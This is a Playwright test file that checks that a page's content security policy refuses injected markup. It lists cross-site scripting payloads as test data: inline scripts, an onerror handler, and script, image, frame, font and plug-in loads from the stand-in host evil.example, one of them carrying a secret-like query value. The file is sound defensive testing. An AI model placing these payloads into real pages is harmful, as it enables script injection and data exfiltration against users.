import { expect, test } from './fixtures';

const smuggled: [string, string][] = [
  ['a script in the page', '<script>globalThis.smuggled = true</script>'],
  ['a handler', '<img src="/none.png" onerror="globalThis.smuggled = true">'],
  ['a script of another site', '<script src="https://evil.example/x.js"></script>'],
  ['a picture of another site', '<img src="https://evil.example/x.png?q=secreto">'],
  ['a frame of another site', '<iframe src="https://evil.example/"></iframe>'],
  [
    'a font of another site',
    '<style>@font-face{font-family:x;src:url(https://evil.example/x)}p{font-family:x}</style><p>x</p>',
  ],
  ['a plug-in', '<object data="https://evil.example/x.swf"></object>'],
];

test('the browser refuses scripts, handlers, frames and files that got into a page', async ({
  page,
  refused,
}) => {
  const arrived: string[] = [];
  page.on('response', (response) => arrived.push(new URL(response.url()).hostname));
  await page.goto('/auth');
  for (const [what, html] of smuggled) {
    refused.length = 0;
    await page.evaluate((markup) => {
      const holder = document.createElement('div');
      holder.innerHTML = markup;
      // Scripts run only when they are parsed as part of a document, or made by a script.
      for (const parsed of holder.querySelectorAll('script')) {
        const made = document.createElement('script');
        for (const { name, value } of parsed.attributes) made.setAttribute(name, value);
        made.textContent = parsed.textContent;
        parsed.replaceWith(made);
      }
      document.body.append(holder);
    }, html);
    await expect.poll(() => refused.length, what).toBeGreaterThan(0);
    expect(await page.evaluate(() => 'smuggled' in globalThis)).toBe(false);
  }
  expect(arrived).not.toContain('evil.example');
  // Nothing more is told by a page that is closed.
  await page.close();
  refused.length = 0;
});
